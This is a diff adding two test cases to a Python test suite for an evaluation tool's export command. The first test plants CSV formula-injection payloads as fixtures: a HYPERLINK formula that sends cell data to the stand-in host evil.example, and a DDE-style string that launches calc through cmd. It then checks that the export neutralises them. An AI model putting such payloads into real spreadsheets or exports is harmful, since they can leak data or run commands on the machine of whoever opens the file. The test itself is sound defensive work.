@@ -2060,6 +2060,35 @@ def _(root):
     assert "\u202e" not in page and "relu\\u202e" + "x" * 69 + "…<" in page  # cut in the cell, whole in its title
 
 
+@case("injection", "export --what cells: a model named '=HYPERLINK(...)' and a formula in the cell's failure reason")
+def _(root):
+    import csv
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    plan = lab(root, model=formula, runs=1)
+    assert cli("run", str(plan), "--db", "h.db", "-q", cwd=root).returncode == 0
+    con = sqlite3.connect(root / "h.db")
+    run_id = con.execute("SELECT run_id FROM runs").fetchone()[0]
+    with con:
+        con.execute("UPDATE cells SET reason = ?", ("@SUM(1+1)*cmd|' /C calc'!A0",))  # a runner's words are anyone's
+    proc = cli("export", run_id, "--db", "h.db", "--what", "cells", "-o", "cells.csv", cwd=root)
+    assert proc.returncode == 0, proc.stderr[-800:]
+    rows = list(csv.DictReader(open(root / "cells.csv", newline="")))
+    assert rows and all(r["model"] == "'" + formula and r["reason"].startswith("'@") for r in rows), rows[0]
+    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values()), "a cell still starts a formula"
+    assert float(rows[0]["p50_ms"]) > 0, "numbers must stay numbers"
+
+
+@case("input", "export --format et-v3 with --what cells or transcripts (latency records only)")
+def _(root):
+    db = stored_db(root)
+    run_id = sqlite3.connect(db).execute("SELECT run_id FROM runs").fetchone()[0]
+    for what in ("cells", "transcripts"):
+        proc = cli("export", run_id, "--db", "h.db", "--what", what, "--format", "et-v3", cwd=root)
+        expect_user_error(proc, f"--what {what}", "csv or parquet")
+    assert not any(p.suffix in (".json", ".csv") for p in root.iterdir()), "something was written"
+
+
 # -- outputs and the store never destroy what was there ------------------------------------------------------
 
 @case("fault", "export, report and nightly -o onto a full disk (cut the previous file, blamed the database)")
